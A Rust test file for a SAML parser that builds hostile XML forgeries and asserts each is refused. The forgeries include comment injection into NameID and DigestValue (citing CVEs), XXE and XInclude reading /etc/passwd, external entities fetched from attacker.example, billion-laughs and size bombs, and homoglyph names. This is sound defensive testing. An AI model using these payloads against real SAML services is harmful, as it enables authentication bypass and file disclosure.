//! Texts that are to hurt the parser, or to be read differently by two: bombs, document types, comments, encodings.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use vestibule::federation::saml::Refusal::{self, Comment, Doctype, NotXml, TooComplex, TooLarge};

use super::provider::{ATTACKER_NAME, Forgery, Parts, Pool, SAML, VICTIM, all_refused, forgery};

fn honest() -> String {
    // long enough a name to hide something in
    Parts::of("victim@corp.example.evil.example").assertion_signed()
}

/// Behind a declaration of the document's type.
fn typed(subset: &str) -> String {
    format!("<!DOCTYPE r {subset}>{}", honest())
}

fn in_name(what: &str) -> String {
    let text = honest();
    let changed = text.replacen("victim@corp.example.evil", &format!("victim@corp.example{what}.evil"), 1);
    assert_ne!(text, changed);
    changed
}

#[expect(clippy::too_many_lines, reason = "a table")]
pub(super) fn forgeries() -> Vec<Forgery> {
    let many = |count: usize, one: &dyn Fn(usize) -> String| (0..count).fold(String::new(), |all, n| all + &one(n));
    let laughs = many(9, &|n| format!("<!ENTITY a{} \"{}\">", n + 1, format!("&a{n};").repeat(10)));
    let attributes = many(200_000, &|n| format!(" a{n}=''"));
    let some_attributes = many(5_000, &|n| format!(" a{n}=''"));
    let namespaces = many(5_000, &|n| format!(" xmlns:n{n}='u'"));
    let open = |what: &str| honest().replacen("<samlp:Response", &format!("<samlp:Response{what}"), 1);
    let inside = |what: &str| honest().replace("</samlp:Response>", &format!("{what}</samlp:Response>"));
    vec![
        forgery("a comment in the name (CVE-2017-11427)", in_name("<!---->"), Comment),
        forgery("a comment with text in the name", in_name("<!-- x -->"), Comment),
        forgery("a processing instruction in the name", in_name("<?x?>"), Comment),
        forgery(
            "a comment in DigestValue (CVE-2025-29775)",
            honest().replace("<ds:DigestValue>", "<ds:DigestValue><!--AAAA-->"),
            Comment,
        ),
        forgery(
            "a comment in the audience",
            honest().replace("</saml:Audience>", "<!---->.x</saml:Audience>"),
            Comment,
        ),
        forgery("a comment between elements", inside("<!-- -->"), Comment),
        forgery("a processing instruction between elements", inside("<?php x ?>"), Comment),
        forgery("an entity in the name that nobody declared", in_name("&x;"), NotXml),
        forgery("a document type", typed(""), Doctype),
        forgery("a document type with an external subset", typed(r#"SYSTEM "http://attacker.example/x.dtd""#), Doctype),
        forgery(
            "an external entity (XXE)",
            typed(r#"[<!ENTITY x SYSTEM "file:///etc/passwd">]"#).replacen("victim@corp.example", "&x;", 1),
            Doctype,
        ),
        forgery("a parameter entity", typed(r#"[<!ENTITY % x SYSTEM "http://attacker.example/x"> %x;]"#), Doctype),
        forgery("an internal entity", typed(r#"[<!ENTITY x "victim">]"#).replacen("victim@", "&x;@", 1), Doctype),
        forgery(
            "a billion laughs",
            typed(&format!(r#"[<!ENTITY a0 "ha">{laughs}]"#)).replacen("victim@", "&a9;@", 1),
            Doctype,
        ),
        forgery(
            "attributes by default from the document type",
            typed(&format!(r#"[<!ATTLIST saml:NameID xmlns:saml CDATA "{SAML}">]"#)),
            Doctype,
        ),
        forgery(
            "a document type with quotes in it (CVE-2025-25291)",
            typed(r#"[<!NOTATION n SYSTEM '"><!--'>]"#),
            Doctype,
        ),
        forgery("10 MB", inside(&"x".repeat(10 * 1024 * 1024)), TooLarge),
        forgery("a little more than is taken", inside(&" ".repeat(257 * 1024)), TooLarge),
        forgery(
            "10 000 nested elements",
            inside(&format!("{}{}", "<a>".repeat(10_000), "</a>".repeat(10_000))),
            TooComplex,
        ),
        forgery("33 nested elements", inside(&format!("{}{}", "<a>".repeat(33), "</a>".repeat(33))), TooComplex),
        forgery("100 000 opened elements", inside(&"<a>".repeat(60_000)), TooComplex),
        forgery("20 000 elements", inside(&"<a/>".repeat(20_000)), TooComplex),
        forgery("200 000 attributes", open(&attributes), TooLarge),
        forgery("5 000 attributes", open(&some_attributes), TooComplex),
        forgery("5 000 namespaces", open(&namespaces), TooComplex),
        forgery("an attribute twice", open(r#" Version="2.0""#), NotXml),
        forgery("an attribute twice by two prefixes", open(r#" xmlns:p="u" xmlns:q="u" p:a="" q:a="""#), NotXml),
        forgery("a prefix that nobody declared", inside("<zz:a/>"), NotXml),
        forgery("the prefix xml declared anew", open(r#" xmlns:xml="urn:x""#), NotXml),
        forgery("the prefix xmlns declared", open(r#" xmlns:xmlns="urn:x""#), Refusal::Differential),
        forgery("two roots", honest().repeat(2), NotXml),
        forgery("text before the root", format!("x{}", honest()), NotXml),
        forgery("text after the root", format!("{}x", honest()), NotXml),
        forgery("an end without a beginning", inside("</a>"), NotXml),
        forgery("a message that ends early", honest()[..900].to_owned(), NotXml),
        forgery("nothing", String::new(), NotXml),
        forgery("a NUL in the name", in_name("\0"), NotXml),
        forgery("a NUL as a number", in_name("&#0;"), NotXml),
        forgery("half of a surrogate as a number", in_name("&#xD800;"), Refusal::Differential),
        forgery("JSON", r#"{"NameID":"victim"}"#.to_owned(), NotXml),
        forgery("an end of CDATA in text", inside("<a>]]></a>"), NotXml),
        forgery(
            "XInclude in the name",
            in_name(r#"<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>"#),
            Refusal::Changed,
        ),
        forgery(
            "a letter that looks the same",
            Parts::of(ATTACKER_NAME).assertion_signed().replace(ATTACKER_NAME, "v\u{456}ctim@corp.example"),
            Refusal::Changed,
        ),
    ]
}

#[test]
fn nothing_hostile_is_taken() {
    all_refused(&Pool::default(), &forgeries(), &honest());
}

#[test]
fn what_is_posted_must_be_base64_of_utf_8() {
    let pool = Pool::default();
    let honest = Parts::of(VICTIM).assertion_signed();
    let deflated = {
        use std::io::Write as _;
        let mut deflate = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
        deflate.write_all(&vec![b' '; 32 * 1024 * 1024]).unwrap();
        deflate.finish().unwrap()
    };
    let utf_16: Vec<u8> = honest.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let latin: Vec<u8> = honest.replace("staff", "st\u{e9}ff").chars().map(|c| c as u8).collect();
    assert_eq!(pool.read_posted("%%%"), Err(Refusal::NotBase64));
    assert_eq!(pool.read_posted(&honest), Err(Refusal::NotBase64));
    assert_eq!(pool.read_posted(&STANDARD.encode(&honest)[1..]), Err(Refusal::NotBase64));
    // deflate belongs to the redirect binding, which nothing comes by: it is never inflated
    assert_eq!(pool.read_posted(&STANDARD.encode(deflated)), Err(NotXml));
    assert_eq!(pool.read_posted(&STANDARD.encode(utf_16)), Err(NotXml));
    assert_eq!(pool.read_posted(&STANDARD.encode(latin)), Err(NotXml));
    assert_eq!(pool.read_posted(&"A".repeat(400 * 1024)), Err(TooLarge));
    assert!(pool.read(&honest).is_ok());
}

/// Whatever one byte of a message is changed to: never another person.
#[test]
fn no_changed_byte_makes_another_person() {
    let honest = Parts::of(VICTIM).assertion_signed();
    let pool = Pool::default();
    for at in 0..honest.len() {
        let mut changed = honest.clone().into_bytes();
        changed[at] = b"X<\"& "[at % 5];
        if let Ok(verified) = pool.read(&String::from_utf8(changed).unwrap()) {
            assert_eq!(verified.name_id.value, VICTIM, "byte {at}");
        }
    }
}
